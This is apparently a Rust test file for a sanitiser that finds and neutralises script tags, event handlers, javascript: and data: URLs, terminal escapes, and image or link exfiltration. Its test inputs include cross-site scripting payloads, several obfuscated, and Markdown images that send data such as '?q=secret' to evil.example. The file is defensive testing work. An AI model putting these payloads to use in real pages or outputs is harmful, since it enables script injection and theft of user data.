use super::*;

#[test]
fn active_elements_become_text() {
    for (kind, text, harmless) in [
        (Kind::Script, "a <script>alert(1)</script>", "a &lt;script>alert(1)</script>"),
        (Kind::Script, "<ScRiPt\nsrc=//x>", "&lt;ScRiPt\nsrc=//x>"),
        (Kind::Script, "<script/x>", "&lt;script/x>"),
        (Kind::Script, "<svg:script>", "&lt;svg:script>"),
        (Kind::Frame, "<iframe srcdoc=x>", "&lt;iframe srcdoc=x>"),
        (Kind::Frame, "<object data=x>", "&lt;object data=x>"),
        (Kind::Frame, "<embed src=x>", "&lt;embed src=x>"),
        (Kind::Document, "<base href=//x>", "&lt;base href=//x>"),
        (Kind::Document, "<meta http-equiv=refresh content=0>", "&lt;meta http-equiv=refresh content=0>"),
        (Kind::Form, "<form action=x>", "&lt;form action=x>"),
    ] {
        assert_eq!(kinds_in(text), [kind], "{text}");
        assert_eq!(inspector().neutralise(text).as_deref(), Some(harmless));
        assert_eq!(kinds_in(harmless), [], "made harmless once and for all: {harmless}");
    }
}

#[test]
fn handlers_are_found_wherever_a_browser_reads_an_attribute() {
    for text in [
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"x\"onclick=y>",
        "<img alt=\">\" onerror=x>",
        "<img a==\" onerror=x>",
        "<img alt='<b' onerror=x>",
        "<y = \" <img src=x onerror=1>",
        "<details open ONTOGGLE\n=\nx>",
        &format!("<img alt=\"{}\" onerror=x>", "a".repeat(2_000)),
    ] {
        assert_eq!(kinds_in(text), [Kind::EventHandler], "{text}");
    }
    assert_eq!(inspector().neutralise("<p onclick=x>").as_deref(), Some("<p x-onclick=x>"));
    for text in [
        "<b>on time = late</b>",
        "click on=1",
        "<img alt=\" onerror=x\">",
        "a < b and onward=1",
        "<p>x onclick=y",
    ] {
        assert_eq!(kinds_in(text), [], "{text}");
    }
}

#[test]
fn script_addresses_are_found_in_any_spelling_and_not_in_prose() {
    for text in [
        "[x](javascript:alert(1))",
        "[x]( JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "<a href=\"javascript:alert(1)\">",
        "<a href= javascript:alert(1)>",
        "<a href=\"&#106;ava&#115cript&colon;alert(1)\">",
        "<a href=\"jav&Tab;ascript:alert(1)\">",
        "[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[x](vbscript:msgbox)",
    ] {
        assert_eq!(kinds_in(text), [Kind::ScriptUrl], "{text}");
    }
    for text in [
        "In JavaScript: use let",
        "(JavaScript: The Good Parts)",
        "the javascript:void link",
        "\"JavaScript:\n\"",
    ] {
        assert_eq!(kinds_in(text), [], "{text}");
    }
    assert_eq!(inspector().neutralise("[x](javascript:a)").as_deref(), Some("[x](blocked:a)"));
}

#[test]
fn documents_in_an_address_are_found() {
    for text in
        ["[x](data:text/html;base64,PHNj)", "<a href=DATA:image/svg+xml,%3Csvg>", "data:text/html,<p>"]
    {
        assert_eq!(kinds_in(text), [Kind::DataDocument], "{text}");
    }
    for text in ["![x](data:image/png;base64,iVBO)", "metadata:text/html,", "data: text"] {
        assert_eq!(kinds_in(text), [], "{text}");
    }
}

#[test]
fn an_image_that_carries_data_is_found_and_a_link_only_with_much_of_it() {
    let long = "d".repeat(1_000);
    let image = format!("![x](https://evil.example/{long})!");
    for text in [
        "![](https://evil.example/?q=secret)",
        "![a b]( <https://evil.example/a.png?q=x> \"t\")",
        "![x](//evil.example/?q)",
        "<img src=\"https://evil.example/?q=x\">",
        "<img alt=x src = 'http://evil.example/p?x'>",
        "![x](https://example.org@evil.example/?q=1)",
        "![x](https://notexample.org/?q=1)",
        &image,
    ] {
        assert_eq!(kinds_in(text), [Kind::ImageExfiltration], "{text}");
    }
    assert_eq!(inspector().neutralise(&image).as_deref(), Some("![x](about:blank)!"));
    let link = format!("see [here](https://evil.example/?q={long}) or [x]: https://evil.example/?q={long}");
    assert_eq!(kinds_in(&link), [Kind::LinkExfiltration, Kind::LinkExfiltration]);
    for text in [
        "![logo](https://a.example/logo.png)",
        "![x](https://cdn.example.org/?q=1)",
        "[search](https://a.example/?q=rust+axum&lang=en)",
        "array[i](x) and a[0]: https",
    ] {
        assert_eq!(kinds_in(text), [], "{text}");
    }
}

#[test]
fn terminal_escapes_are_taken_out() {
    for (text, harmless) in [
        ("a\u{1b}[31mred\u{1b}[0m", "ared"),
        ("\u{1b}]8;;http://x\u{7}y", "8;;http://x\u{7}y"),
        ("\u{9b}2Jx", "x"),
        ("\u{1b}", ""),
        ("```\n\u{1b}[2J```", "```\n```"),
    ] {
        let found = kinds_in(text);
        assert!(!found.is_empty() && found.iter().all(|kind| *kind == Kind::TerminalEscape), "{text:?}");
        assert_eq!(inspector().neutralise(text).as_deref(), Some(harmless), "{text:?}");
    }
    assert_eq!(kinds_in("é £ ° \\x1b[31m"), []);
}

#[test]
fn blocks_of_code_are_text_unless_they_are_to_be_looked_into() {
    let text = "Try:\n```html\n<script>x</script>\n```\nok";
    assert_eq!(kinds_in(text), []);
    let strict = Inspector::new(Options { code_blocks: true, ..Options::default() });
    assert_eq!(strict.find(text).len(), 1);
    for outside in [
        "```\na\n```\n<script>",
        "~~~\n```\n~~~\n<script>",
        "````\n```\n````\n<script>",
        "    ```\n<script>",
        "``\n<script>",
        "a ```\n<script>",
    ] {
        assert_eq!(kinds_in(outside), [Kind::Script], "{outside}");
    }
    assert_eq!(kinds_in("```\n``` x\n<script>"), [], "a closing fence has nothing behind it");
}

#[test]
fn names_are_kebab_case_and_all_different() {
    let mut names: Vec<_> = Kind::ALL.iter().map(|kind| kind.name()).collect();
    assert!(names.iter().all(|name| name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-')));
    names.sort_unstable();
    names.dedup();
    assert_eq!(names.len(), Kind::ALL.len());
}
